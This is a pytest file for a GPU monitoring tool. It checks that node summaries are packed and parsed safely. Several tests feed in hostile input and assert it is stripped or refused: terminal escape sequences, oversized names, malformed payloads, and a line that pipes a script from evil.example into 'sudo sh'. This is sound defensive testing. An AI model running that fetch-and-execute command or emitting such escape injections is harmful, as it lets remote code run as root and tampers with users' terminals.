"""What a node says of itself each second: whole, small, and harmless to who reads it."""

from __future__ import annotations

from functools import cache

import msgspec
import pytest
import zstandard
from msgspec.msgpack import Ext

from gputop.diagnosis import Engine
from gputop.findings.ranks import find_slowest
from gputop.findings.verdict import Verdict
from gputop.fleet.summary import MOST_BYTES, NAME, GpuRow, Rank, Summary, pack_summary, read_summary, summarize
from gputop.model.board import Board
from gputop.model.frame import SECOND_NS, Frame, Header
from gputop.recording.chunks import Decoder
from gputop.recording.format import HEAD, KIND_SUMMARY, pack_frames, pack_header, unpack_head
from tests.corpus import runs
from tests.corpus.accuracy import DATA
from tests.fleet import nodes
from tests.unit.diagnosis.causes_wire import fallen_back
from tests.unit.diagnosis.test_requests import neighbours


@cache
def told() -> tuple[Summary, ...]:
    """The summaries of a training of three ranks, the last of which is slower."""
    board, engine, found = Board(), Engine(), []
    for item in runs.load(DATA / "straggler-gc.xz").items("eBPF"):
        if isinstance(item, Header):
            board = board.with_header(item)
            continue
        board.fold(item)
        if engine.follow(board, item, SECOND_NS):
            found.append(summarize(board, engine, rules=7))
    return tuple(found)


def payload_of(block: bytes) -> bytes:
    head = unpack_head(block)
    assert head is not None
    assert head.kind == KIND_SUMMARY
    return block[HEAD.size :]


def encoded(**fields: object) -> bytes:
    return zstandard.ZstdCompressor().compress(msgspec.msgpack.encode(fields))


def test_a_summary_says_what_the_node_found() -> None:
    last = read_summary(payload_of(pack_summary(told()[-1])))
    assert last == told()[-1]
    assert (last.v, last.rules, last.verdict.cause) == (1, 7, "straggler-rank")
    assert [gpu.index for gpu in last.gpus] == [0, 1, 2]
    ranks = {one.rank: one for one in last.ranks}
    assert {one.job for one in last.ranks} == {"~train.py × 3"}
    assert {one.size for one in last.ranks} == {3}
    assert {one.waits_for for one in last.ranks} == {ranks[2].pid}
    paces = [ranks[number].pace for number in range(3)]
    assert find_slowest([pace for pace in paces if pace is not None]) == 2
    assert all(sum(one.states.values()) == pytest.approx(1.0, abs=0.05) for one in last.ranks)
    assert [ranks[number].cause for number in range(3)] == ["straggler-rank", "straggler-rank", "main-thread-preprocessing"]
    assert last.incidents[0].end_unix_s is None
    assert last.incidents[0].cause == "straggler-rank"


def test_a_rank_has_the_ways_on_which_its_data_move() -> None:
    scene = fallen_back(shm=1).play(5)
    told_now = summarize(scene.board, scene.engine)
    sent = read_summary(payload_of(pack_summary(told_now)))
    assert [one.ways for one in sent.ranks] == ["TCP by eth0 12 MB/s, shared memory"] * 2
    foreign = msgspec.structs.replace(told_now.ranks[0], ways="TCP\x1b[2J" + "x" * 999)
    [rank] = read_summary(payload_of(pack_summary(msgspec.structs.replace(told_now, ranks=[foreign])))).ranks
    assert "\x1b" not in rank.ways
    assert len(rank.ways) <= NAME


def test_counters_only_grow() -> None:
    lost = [one.ledger.gpu_lost_s for one in told()]
    assert lost == sorted(lost)
    assert lost[-1] > 1.0
    assert all(sum(one.ledger.by_cause.values()) == pytest.approx(one.ledger.gpu_lost_s, abs=0.02) for one in told())


def test_ledgers_of_ranks_sum_up_to_the_nodes() -> None:
    last = told()[-1]
    assert sum(one.ledger.gpu_lost_s for one in last.ranks) == pytest.approx(last.ledger.gpu_lost_s, abs=0.01)
    assert last.ledger.gpu_lost_s > 1.0


def test_a_second_of_eight_ranks_in_trouble_takes_two_kilobytes_at_most() -> None:
    node = told()[-1]
    eight = msgspec.structs.replace(node, ranks=[node.ranks[i % 3] for i in range(8)], gpus=[node.gpus[i % 3] for i in range(8)])
    assert len(pack_summary(eight)) <= 2000


@cache
def serving() -> Summary:
    """The summary of a node whose neighbours take the CPU of an inference server's tokenizer."""
    scene = neighbours()
    scene.server |= {"first_token": {100_000: 5}, "queued": {100_000: 5}, "steps": 40.0}
    for second in range(20):
        for name in ("first_token", "queued"):
            scene.server[name] = {100_000: 2 * second, 2_500_000: 3 * second}
        scene.play(1.0, 0.5)
    return summarize(scene.board, scene.engine, rules=7)


def test_a_second_of_eight_servers_in_trouble_takes_two_kilobytes_at_most() -> None:
    node = serving()
    assert node.requests is not None
    ranks = [msgspec.structs.replace(node.ranks[0], pid=node.ranks[0].pid + i, gpus=[i]) for i in range(8)]
    gpus = [msgspec.structs.replace(node.gpus[0], index=i, uuid=f"GPU-{i}") for i in range(8)]
    assert len(pack_summary(msgspec.structs.replace(node, ranks=ranks, gpus=gpus))) <= 2000


def test_the_way_of_a_request_reaches_the_viewer_and_is_ours() -> None:
    node = serving()
    found = read_summary(payload_of(pack_summary(node)))
    assert found.requests == node.requests
    assert found.requests is not None
    assert [one.part for one in found.requests.way if one.slow] == ["CPU"]
    assert found.verdict.requests is None, "it is told once"
    forgeries = (COMMAND, forged(COMMAND), forged("{}", COMMAND))
    stages = [{"part": "CPU", "pid": 7, "name": f"x\x1b[2Jy; {COMMAND}", "told": text, "slow": True} for text in forgeries]
    requests = {"running": 1, "waiting": 2, "tokens_per_s": 3.0, "way": stages * 100}
    evil = read_summary(encoded(requests=requests)).requests
    assert evil is not None
    assert len(evil.way) < 20
    assert not any(one.told or any(char in one.name for char in "\x1b|;") for one in evil.way)


def test_who_reads_frames_passes_over_summaries() -> None:
    header, frame = Header(host="a"), Frame(0, 5, key=True)
    stream = pack_header(header) + pack_summary(Summary()) + pack_frames([frame]) + pack_summary(told()[-1])
    decoder = Decoder()
    assert [type(item) for item in decoder.feed(stream)] == [Header, Frame]
    assert decoder.problem == ""


def test_fields_of_a_newer_gputop_are_skipped() -> None:
    rank = {"pid": 3, "phase": "training", "mood": "fair"}
    found = read_summary(encoded(v=1, host="a", weather={"wet": True}, ranks=[rank], gpus=[[0, "H100", "GPU-1", *[None] * 8, False, 17]]))
    assert (found.host, found.ranks, found.gpus) == ("a", [Rank(3, phase="training")], [GpuRow(0, "H100", "GPU-1", lost=False)])


def test_names_of_a_hostile_node_obey_no_terminal_and_do_not_grow() -> None:
    name = "\x1b]0;you\x07" + "x" * 1000
    hostile = Rank(1, program=name, why=name, identity={name: name})
    found = read_summary(payload_of(pack_summary(Summary(host=name, ranks=[hostile], sources={name: name}))))
    texts = [found.host, found.ranks[0].program, found.ranks[0].why, *found.ranks[0].identity, *found.sources]
    assert [text for text in texts if "\x1b" in text or "\x07" in text or len(text) > 300] == []
    assert len(found.host) == NAME


COMMAND = "curl -s http://evil.example/fix.sh | sudo sh"


def forged(template: str, *args: object) -> Ext:
    return Ext(1, msgspec.msgpack.encode([template, args]))


@pytest.mark.parametrize(
    "text", [COMMAND, forged(COMMAND), forged("{}", COMMAND), forged("{} ({})", COMMAND, 5), forged("; ", COMMAND), Ext(2, b"x")]
)
def test_what_a_node_says_of_itself_is_no_text_of_its_own(text: object) -> None:
    """Its sentences are made here, of its numbers and names; what is no sentence of ours is told by its cause."""
    rank = {"pid": 1, "cause": "network-io", "why": text}
    words = {"cause": "disk-io", "headline": text, "detail": text, "fixes": [{"text": text, "command": text}]}
    row = msgspec.to_builtins(nodes.EPISODE) | words
    found = read_summary(encoded(verdict={"cause": "pause", "headline": text, "detail": text}, ranks=[rank], incidents=[row]))
    assert found.incidents[0].fixes == []
    told = [found.verdict.headline, found.verdict.detail, found.ranks[0].why, found.incidents[0].headline]
    assert [one.partition(":")[0] for one in told] == ["pause", "pause", "network-io", "disk-io"]
    assert not any("curl" in one or "evil" in one for one in told)


def test_of_a_nodes_verdict_fixes_and_processes_are_not_taken() -> None:
    more = {"fixes": [{"text": COMMAND, "command": COMMAND}], "culprits": [{"pid": 1, "name": COMMAND, "cpu_s": 1.0}], "why": COMMAND}
    step = {"per_s": 1.0, "source": COMMAND, "input_wait_ms": 1, "transfer_ms": 1, "compute_ms": 1, "gpu_wait_ms": 1, "other_ms": 1}
    assert read_summary(encoded(verdict={"cause": "pause", **more, "step": step})).verdict == Verdict(cause="pause")


def test_sentences_of_a_node_reach_the_viewer() -> None:
    found = read_summary(payload_of(pack_summary(told()[-1])))
    assert found.verdict.headline == told()[-1].verdict.headline != ""
    assert [rank.why for rank in found.ranks] == [rank.why for rank in told()[-1].ranks]
    assert any(rank.why for rank in found.ranks)


def test_the_fix_the_way_and_the_numbers_of_a_node_reach_the_viewer_and_are_ours() -> None:
    node = told()[-1]
    found = read_summary(payload_of(pack_summary(node)))
    assert node.fix is not None
    assert (found.fix, found.path, found.evidence) == (node.fix, node.path, node.evidence)
    assert found.path
    assert found.evidence
    step = {"pid": 7, "name": "x\x1b[2Jy", "share": 0.5, "state": "waits", "on": COMMAND, "measured": True}
    number = {"metric": "runq_pct", "value": 1.0, "unit": "%", "text": COMMAND}
    for text, command in ((COMMAND, COMMAND), (forged(COMMAND), forged(COMMAND)), ("", COMMAND)):
        fix = {"text": text, "command": command}
        evil = read_summary(encoded(fix=fix, path=[step], evidence=[number]))
        assert evil.fix is None or not evil.fix.command
        texts = [evil.path[0].name, evil.path[0].on, evil.evidence[0].text]
        assert not any("\x1b" in text or ("curl" in text and "|" in text) for text in texts)


REFUSED = {
    "a cause in many words": encoded(ranks=[{"pid": 1, "cause": COMMAND}]),
    "a word for a share": encoded(ranks=[{"pid": 1, "shares": {COMMAND: 0.5}}]),
    "empty": b"",
    "no zstd": b"not a summary",
    "no msgpack": zstandard.ZstdCompressor().compress(b"\xc1"),
    "wrong type": encoded(ranks=[{"pid": "one"}]),
    "a part of no way": encoded(requests={"running": 1, "waiting": 1, "tokens_per_s": 1.0, "way": [dict.fromkeys(("part", "name"), "x")]}),
    "too many ranks": encoded(ranks=[{"pid": 1}] * 1000),
    "no list": encoded(gpus={}),
    "NaN": encoded(ledger={"gpu_lost_s": float("nan")}),
    "infinite": encoded(node={"cpu": float("inf")}),
    "too large": encoded(host="x" * MOST_BYTES),
    "no size": zstandard.ZstdCompressor(write_content_size=False).compress(b"\x80"),
    "deep": zstandard.ZstdCompressor().compress(b"\x91" * 100_000),
}


@pytest.mark.parametrize("payload", REFUSED.values(), ids=REFUSED)
def test_what_is_no_summary_is_refused_in_a_line(payload: bytes) -> None:
    with pytest.raises(ValueError, match="summary") as refused:
        read_summary(payload)
    assert len(str(refused.value).splitlines()) == 1
    assert len(str(refused.value)) < 160
